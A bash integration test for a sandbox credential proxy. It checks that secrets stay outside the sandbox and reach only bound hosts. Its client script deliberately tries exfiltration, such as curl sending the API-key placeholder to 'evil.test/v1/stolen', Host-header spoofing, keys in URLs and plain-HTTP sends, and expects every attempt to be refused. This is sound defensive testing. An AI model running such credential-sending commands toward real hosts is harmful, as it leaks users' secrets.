#!/usr/bin/env bash
# Provider credentials the sandbox never holds (docs/credentials.md): a
# credential named in the daemon config and one given with --credential;
# inside the sandbox the variables hold placeholders, curl and python3 send
# them, and an HTTPS test server in a test namespace says which credential
# it received (it answers "secret", "placeholder" or "other", never the
# value).  Attacks: the placeholder toward a host the credential is not
# bound to, an unknown placeholder, a placeholder in the URL, credentials on
# plain HTTP, on an L4 endpoint and on a `tls: skip` endpoint, reading the
# secret file from inside, a credential file with the wrong mode or owner;
# bodies are rewritten only on the endpoint that opts in, up to the bound,
# chunked too (a placeholder split across chunks); there a body that cannot
# be rewritten (over the bound, chunked or not, another type) is refused or
# cut where a placeholder passes; Basic credentials are decoded, rewritten
# toward the bound host only, refused toward another and in plain HTTP; a
# server quoting the key back in two pieces hands the sandbox only '*'s.  Then the secret must be absent from every file under the state
# root (journal included, sealed segments decompressed), every event, the
# runs' stdout/stderr and the daemon's log; the events validate against the
# official OCSF 1.8.0 schema and carry which credential went to which host.
#
#   gbc$$: glassbox run (supervisor + proxy)    gbu$$: 198.18.0.10:443 and :80
#          sandbox: lo only, 127.0.0.1:3128       cred_server.py (below)
. "$(dirname "$0")/lib/sandbox_lib.sh"
NETNS_LIB_EMBED=1 . "$(dirname "$0")/lib/netns_lib.sh"
. "$(dirname "$0")/lib/ocsf_lib.sh"
netns_trap
H=$GB_SOURCE_DIR/tests/helpers
chown "$SBX_OWNER" "$W"
netns_setup
G() { "$GLASSBOX" --root "$ROOT" "$@"; }

python3 "$H/tls_certs.py" "$T" api.test,evil.test,body.test,l4.test,skip.test
# The keys live in the workdir, visible inside (an operator's slip the
# owner and mode rule must survive).
KEYS=$W/.keys
mkdir -p "$KEYS"
chmod 0755 "$KEYS"
S1="sk-gbtest-$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')"
S2="ghp_gbtest$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')"
printf '%s\n' "$S1" >"$KEYS/openai"
printf '%s' "$S2" >"$KEYS/gh"
chmod 0600 "$KEYS/openai" "$KEYS/gh"

# The upstream: TLS on 443 (every test name), plain HTTP on 80.  Each
# request is logged (host, path) to seen.log; the answer says what it got.
cat >"$T/cred_server.py" <<'PY'
import base64, json, ssl, sys, threading, time, urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
s1, s2 = (open(f).read().strip() for f in sys.argv[3:5])
log = open(sys.argv[5], "a", buffering=1)
def what(v):
    if s1 in v: return "secret1"
    if s2 in v: return "secret2"
    if "credential:" in v or "resolve:env:" in v: return "placeholder"
    return "other"
class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def do_GET(self): self.answer(b"")
    def do_POST(self):
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            body = b""
            while True:
                size = int(self.rfile.readline().split(b";")[0], 16)
                if not size:
                    while self.rfile.readline() not in (b"\r\n", b"\n", b""): pass
                    break
                body += self.rfile.read(size)
                self.rfile.readline()
            return self.answer(body)
        n = int(self.headers.get("Content-Length", "0"))
        self.answer(self.rfile.read(n))
    def answer(self, body):
        log.write("%s %s %s\n" % (self.server.server_port, self.headers.get("Host"), self.path))
        auth = " ".join(self.headers.get(k, "") for k in ("Authorization", "X-Api-Key"))
        if auth.startswith("Basic "):  # user:password, base64
            auth = base64.b64decode(auth.split()[1]).decode("utf-8", "replace")
        text = body.decode("utf-8", "replace")
        form = ""
        if self.headers.get("Content-Type", "").startswith("application/x-www-form-urlencoded"):
            form = what(urllib.parse.parse_qs(text).get("key", [""])[0])
        elif self.headers.get("Content-Type", "").startswith("application/json") and body:
            text = json.dumps(json.loads(body))  # a body the rewrite broke would not parse
        if self.path == "/v1/echo":  # a careless server quoting the key, in two writes
            got = self.headers.get("Authorization", "").replace("Bearer ", "").encode()
            a, b = b'{"echo": "' + got[:9], got[9:] + b'"}'
            self.send_response(401)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(a) + len(b)))
            self.end_headers()
            self.wfile.write(a)
            self.wfile.flush()
            time.sleep(0.05)  # two TLS records, two reads on the proxy's side
            self.wfile.write(b)
            return
        out = json.dumps({"auth": what(auth), "body": what(text), "form": form,
                          "len": len(body)}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
tls = ThreadingHTTPServer(("198.18.0.10", 443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(sys.argv[1], sys.argv[2])
tls.socket = ctx.wrap_socket(tls.socket, server_side=True)
plain = ThreadingHTTPServer(("198.18.0.10", 80), H)
threading.Thread(target=plain.serve_forever, daemon=True).start()
tls.serve_forever()
PY
(exec ip netns exec "$UNS" python3 "$T/cred_server.py" "$T/good.pem" "$T/good.key" \
  "$KEYS/openai" "$KEYS/gh" "$T/seen.log" 2>"$T/server.err") & pids+=($!)
for _ in $(seq 50); do U bash -c 'exec 3<>/dev/tcp/198.18.0.10/443' 2>/dev/null && break; sleep 0.1; done
echo "198.18.0.10 api.test evil.test body.test l4.test skip.test" >"$T/hosts"

cat >"$T/policy.yaml" <<'Y'
version: 1
filesystem_policy:
  read_only: [/usr, /bin, /lib, /lib64, /etc, /proc, /dev/urandom]
  read_write: [/tmp, /dev/null]
  include_workdir: true
landlock:
  compatibility: best_effort
network_policies:
  agent:
    endpoints:
      - { host: api.test, port: 443, protocol: rest, enforcement: enforce, access: read-write }
      - { host: evil.test, port: 443, protocol: rest, enforcement: enforce, access: read-write }
      - { host: body.test, port: 443, protocol: rest, enforcement: enforce, access: read-write,
          request_body_credential_rewrite: true }
      - { host: l4.test, port: 443 }
      - { host: skip.test, port: 443, protocol: rest, tls: skip, access: read-write }
      - { host: api.test, port: 80 }
    binaries: [ { path: "/usr/**" } ]
Y
# openai from the daemon config (bound to every test host but evil.test);
# gh per run
mkdir -p "$ROOT/etc/glassbox"
cat >"$ROOT/etc/glassbox/glassbox.yaml" <<Y
credentials:
  - name: openai
    file: $KEYS/openai
    env: OPENAI_API_KEY
    hosts: [api.test, body.test, l4.test, skip.test]
Y
"$GLASSBOX" --root "$ROOT" serve >"$T/serve.log" 2>&1 & pids+=($!)
for _ in $(seq 400); do grep -q watching "$T/serve.log" 2>/dev/null && break; sleep 0.05; done

# sbx NAME SCRIPT: one sandbox in the client namespace running sh -c SCRIPT
sbx() {
	local name=$1
	shift
	C "${GBRUN[@]}" --name "$name" --policy "$T/policy.yaml" --hosts "$T/hosts" \
	  --upstream-ca "$T/upca.pem" --credential "gh:GH_TOKEN=$KEYS/gh@api.test" \
	  "${EXTRA[@]}" -- /bin/sh -c "$1" >"$T/$name.out" 2>"$T/$name.err"
	rc=$?
}
EXTRA=()
field() { sed -n "s/^$1 //p" "$T/main.out" | head -1; }
j() { field "$1" | jq -r "$2" 2>/dev/null; }

# dd ... | tr: a JSON body over the 256 KiB bound, made inside (the workdir
# may not be the host's to write in a fresh root)
cat >"$W/client.sh" <<'SH'
k='curl -sS -m 10'
echo "env $OPENAI_API_KEY $GH_TOKEN"
cat "$KEYS/openai" >/dev/null 2>&1 && echo "readable yes" || echo "readable no $(test -e "$KEYS/openai" && echo exists)"
echo "bound $($k -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/v1/bound)"
echo "gh $($k -H "Authorization: token $GH_TOKEN" https://api.test/gh)"
echo "unbound $($k -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $OPENAI_API_KEY" https://evil.test/v1/stolen)"
echo "hostspoof $($k -o /dev/null -w '%{http_code}' -H 'Host: evil.test' -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/v1/spoof)"
echo "unknown $($k -o /dev/null -w '%{http_code}' -H 'X-Api-Key: glassbox:credential:nope' https://api.test/v1/unknown)"
echo "intarget $($k -o /dev/null -w '%{http_code}' "https://api.test/v1/url?key=$OPENAI_API_KEY")"
echo "plain $($k -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $OPENAI_API_KEY" http://api.test/v1/plain)"
echo "l4 $($k -o /dev/null -w '%{http_connect}' -H "Authorization: Bearer $OPENAI_API_KEY" https://l4.test/v1/l4 2>/dev/null)"
echo "skip $($k -o /dev/null -w '%{http_connect}' https://skip.test/v1/skip 2>/dev/null)"
echo "bodyopt $($k -H 'Content-Type: application/json' -d "{\"key\": \"$OPENAI_API_KEY\"}" https://body.test/v1/json)"
echo "form $($k -d "key=$OPENAI_API_KEY&x=1" https://body.test/v1/form)"
echo "bodynot $($k -H 'Content-Type: application/json' -d "{\"key\": \"$OPENAI_API_KEY\"}" https://api.test/v1/json)"
big=$(mktemp)
{ printf '{"key": "%s", "pad": "' "$OPENAI_API_KEY"; head -c 300000 /dev/zero | tr '\0' a; printf '"}'; } >"$big"
echo "bodybig $($k -o /dev/null -w '%{http_code}' -H 'Content-Type: application/json' --data-binary @"$big" https://body.test/v1/big)"
rm -f "$big"
echo "octet $($k -o /dev/null -w '%{http_code}' -H 'Content-Type: application/octet-stream' --data-binary "k=$OPENAI_API_KEY" https://body.test/v1/octet)"
echo "basic $($k -u "me:$OPENAI_API_KEY" https://api.test/v1/basic)"
echo "echo $($k -H "Authorization: Bearer $OPENAI_API_KEY" https://api.test/v1/echo)"
echo "basicunbound $($k -o /dev/null -w '%{http_code}' -u "me:$OPENAI_API_KEY" https://evil.test/v1/basicstolen)"
echo "basicplain $($k -o /dev/null -w '%{http_code}' -u "me:$OPENAI_API_KEY" http://api.test/v1/basicplain)"
/usr/bin/python3 - <<'PYC'
# chunked request bodies (urllib sends an iterable body chunk by chunk)
import json, urllib.error, urllib.request
def post(name, url, pieces, ctype="application/json"):
    r = urllib.request.Request(url, data=iter(pieces), method="POST", headers={"Content-Type": ctype})
    try:
        with urllib.request.urlopen(r, timeout=10) as a:
            print(name, json.dumps(json.load(a)))
    except urllib.error.HTTPError as e:
        print(name, json.dumps({"status": e.code}))
    except Exception as e:  # the connection cut
        print(name, json.dumps({"status": "cut", "why": type(e).__name__}))
pad = b"a" * 100000
# the placeholder split across two chunks: rewritten, sent with a Content-Length
post("chunked", "https://body.test/v1/chunked", [b'{"key": "glassbox:cred', b'ential:openai", "n": 1}'])
# over the bound: a placeholder in the first chunks is refused before anything goes
post("chunkbig", "https://body.test/v1/chunkbig", [b'{"key": "glassbox:credential:openai", "p": "'] + [pad] * 3 + [b'"}'])
# over the bound, no placeholder: passes whole
post("chunkclean", "https://body.test/v1/chunkclean", [b'{"p": "'] + [pad] * 3 + [b'"}'])
# over the bound, the placeholder past it: the request is cut there
post("chunklate", "https://body.test/v1/chunklate", [b'{"p": "'] + [pad] * 3 + [b'", "key": "glassbox:cre', b'dential:openai"}'])
PYC
/usr/bin/python3 - <<'PYC'
import json, urllib.request
r = urllib.request.Request("https://api.test/v1/py", headers={
    "Authorization": "Bearer openshell:resolve:env:OPENAI_API_KEY"})
print("python", json.dumps(json.load(urllib.request.urlopen(r, timeout=10))))
PYC
SH
chmod 0644 "$W/client.sh"
sbx main "KEYS=$KEYS sh $W/client.sh"
check "run: status" 0 "$rc"
[[ $rc == 0 ]] || tail -5 "$T/main.err"
check "env: placeholders only" "glassbox:credential:openai glassbox:credential:gh" "$(field env)"
check "secret file unreadable inside" "no exists" "$(field readable)"
check "header rewritten toward the bound host (config credential)" secret1 "$(j bound .auth)"
check "header rewritten (--credential)" secret2 "$(j gh .auth)"
check "OpenShell placeholder form (python3)" secret1 "$(j python .auth)"
check "unbound host refused" 403 "$(field unbound)"
check "a Host header naming another host refused" 400 "$(field hostspoof)"
check "unknown placeholder refused" 403 "$(field unknown)"
check "placeholder in the URL refused" 403 "$(field intarget)"
check "plain HTTP refused" 403 "$(field plain)"
check "L4 endpoint of a bound host refused" 403 "$(field l4)"
check "tls: skip endpoint of a bound host refused" 403 "$(field skip)"
check "JSON body rewritten where opted in" secret1 "$(j bodyopt .body)"
check "form body rewritten (percent-encoded)" secret1 "$(j form .form)"
check "body left alone where not opted in" placeholder "$(j bodynot .body)"
check "body over the bound with a placeholder refused" 413 "$(field bodybig)"
check "a type that is not rewritten, with a placeholder, on an opted-in endpoint: refused" 403 "$(field octet)"
check "Basic credentials: decoded, rewritten toward the bound host" secret1 "$(j basic .auth)"
check "Basic credentials toward an unbound host refused" 403 "$(field basicunbound)"
check "a server quoting the key back, split across two reads: masked" "$(printf '%*s' ${#S1} '' | tr ' ' '*')" "$(j echo .echo)"
check "Basic credentials in plain HTTP refused" 403 "$(field basicplain)"
check "chunked body, the placeholder split across chunks: rewritten" secret1 "$(j chunked .body)"
check "chunked body over the bound with a placeholder refused" 413 "$(j chunkbig .status)"
check "chunked body over the bound without one passes whole" 300009 "$(j chunkclean .len)"
check "chunked body with a placeholder past the bound: cut, never completed" 403 "$(j chunklate .status)"
[[ $FAILS == 0 ]] || { cut -c1-200 "$T/main.out" | sed 's/^/  out: /'; tail -5 "$T/main.err" | sed 's/^/  err: /'; }
# what the refused requests never reached
check "refused requests never reached upstream" "" \
  "$(grep -E '/v1/(stolen|spoof|unknown|url|plain|l4|skip|big|octet|basicstolen|basicplain|chunkbig|chunklate)$' "$T/seen.log")"

# Credential files the supervisor must refuse, with a clear message.
cp "$KEYS/gh" "$KEYS/loose" && chmod 0644 "$KEYS/loose"
EXTRA=(--credential "loose=$KEYS/loose@api.test")
sbx loose "true"
check "0644 credential file refused" "125 yes" "$rc $(grep -q 'must be owned by root with mode 0600' "$T/loose.err" && echo yes)"
cp "$KEYS/gh" "$KEYS/owned" && chown 4242 "$KEYS/owned"
EXTRA=(--credential "owned=$KEYS/owned@api.test")
sbx owned "true"
check "credential file not owned by root refused" "125 yes" "$rc $(grep -q 'owned by root' "$T/owned.err" && echo yes)"
EXTRA=(--credential "x=$KEYS/gh@bad host")
sbx badarg "true"
check "--credential syntax error" "2 yes" "$rc $(grep -q 'bound host' "$T/badarg.err" && echo yes)"
# --config FILE: its credentials instead of the default config's
cat >"$T/alt.yaml" <<Y
credentials:
  - { name: alt, file: $KEYS/gh, env: ALT_KEY, hosts: [api.test] }
Y
EXTRA=(--config "$T/alt.yaml")
sbx altcfg 'echo "env ${ALT_KEY:-} ${OPENAI_API_KEY:-none}"; curl -sS -m 10 -H "X-Api-Key: $ALT_KEY" https://api.test/alt'
check "--config: its credentials only" "env glassbox:credential:alt none" "$(head -1 "$T/altcfg.out")"
check "--config: its credential rewritten" secret2 "$(tail -1 "$T/altcfg.out" | jq -r .auth 2>/dev/null)"
EXTRA=()

# The journal (a run ends once serve drained its ring).
G logs main --json >"$T/main.jsonl"
python3 - "$T/main.jsonl" >"$T/ev.txt" <<'PY'
import json, sys
for l in open(sys.argv[1]):
    e = json.loads(l)
    u = e.get("unmapped", {})
    for c in u.get("credentials", []):
        print("cred", e.get("http_request", {}).get("url", {}).get("path"), c["name"], c["host"])
    if e.get("status_detail", "").startswith("credential_"):
        print("deny", e["class_uid"], e["status_detail"])
PY
check "rewrite recorded: openai to api.test" yes "$(grep -q '^cred /v1/bound openai api.test$' "$T/ev.txt" && echo yes)"
check "rewrite recorded: gh to api.test" yes "$(grep -q '^cred /gh gh api.test$' "$T/ev.txt" && echo yes)"
check "body rewrite recorded" yes "$(grep -q '^cred /v1/json openai body.test$' "$T/ev.txt" && echo yes)"
check "refusal: unbound host" yes "$(grep -q '^deny 4002 credential_unbound_host$' "$T/ev.txt" && echo yes)"
check "refusal: unresolved placeholders (unknown, URL, big body, octet body, chunked big, chunked late)" 6 "$(grep -c '^deny 4002 credential_unresolved$' "$T/ev.txt")"
check "refusal: uninspected (plain HTTP twice: network + HTTP event, L4, tls: skip)" 6 "$(grep -c '^deny 400[12] credential_uninspected$' "$T/ev.txt")"
check "Basic rewrite recorded" yes "$(grep -q '^cred /v1/basic openai api.test$' "$T/ev.txt" && echo yes)"
check "chunked body rewrite recorded" yes "$(grep -q '^cred /v1/chunked openai body.test$' "$T/ev.txt" && echo yes)"
ocsf_full_schema || exit 1
if [[ -n $OCSF_FULL ]]; then
	python3 "$GB_SOURCE_DIR/tests/ocsf_validate.py" -q --official "$OCSF_FULL" "$T/main.jsonl" >"$T/val.txt" 2>&1
else
	python3 "$GB_SOURCE_DIR/tests/ocsf_validate.py" -q "$T/main.jsonl" >"$T/val.txt" 2>&1
fi
check "events valid OCSF" 0 "$?"

# The secret, anywhere: every file under the state root (sealed journal
# segments decompressed), the events, the runs' output, the daemon's log.
leaks=""
while IFS= read -r -d '' f; do
	case $f in
	*.zst) zstd -dcq "$f" 2>/dev/null | grep -qF -e "$S1" -e "$S2" && leaks+=" $f" ;;
	*) grep -qF -e "$S1" -e "$S2" "$f" 2>/dev/null && leaks+=" $f" ;;
	esac
done < <(find "$ROOT" -type f -print0)
for f in "$T"/*.out "$T"/*.err "$T/main.jsonl" "$T/serve.log"; do
	grep -qF -e "$S1" -e "$S2" "$f" && leaks+=" $f"
done
check "secret absent from state root, journal, events, output, logs" "" "$leaks"
check "the search had something to search" yes "$([[ $(find "$ROOT" -type f | wc -l) -gt 3 && -s $T/main.jsonl ]] && echo yes)"
finish
